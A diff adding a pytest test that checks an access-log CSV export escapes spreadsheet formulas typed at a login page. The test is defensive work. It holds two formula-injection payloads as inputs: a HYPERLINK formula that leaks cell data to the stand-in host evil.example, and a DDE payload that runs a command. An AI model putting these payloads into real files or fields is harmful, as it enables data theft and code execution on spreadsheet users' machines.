@@ -89,6 +89,20 @@ def test_the_access_log_downloads_as_csv(users: dict[str, AbstractBaseUser]) -> 
     assert rows[1]["detail"] == "{'note': 'a, comma'}"
 
 
+def test_a_formula_typed_at_the_login_page_is_text_in_the_access_log_csv(
+    users: dict[str, AbstractBaseUser],
+) -> None:
+    """An anonymous login attempt chooses its username and User-Agent: both come out of the CSV as
+    text a spreadsheet shows, never as a formula it runs."""
+    username = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    agent = "=cmd|' /C calc'!A0"
+    Client().post("/accounts/login/", {"username": username, "password": "nope"}, HTTP_USER_AGENT=agent)
+    rows = list(csv.DictReader(io.StringIO(logged_in(users["auditor"]).get(ACCESS, {"format": "csv"}).text)))
+    failed = next(row for row in rows if row["kind"] == "login_failed")
+    assert failed["username"] == "'" + username
+    assert failed["user_agent"] == "'" + agent
+
+
 @pytest.mark.parametrize(("name", "kwargs"), PAGES)
 def test_every_report_page_is_no_store(
     name: str, kwargs: dict[str, Any], users: dict[str, AbstractBaseUser]
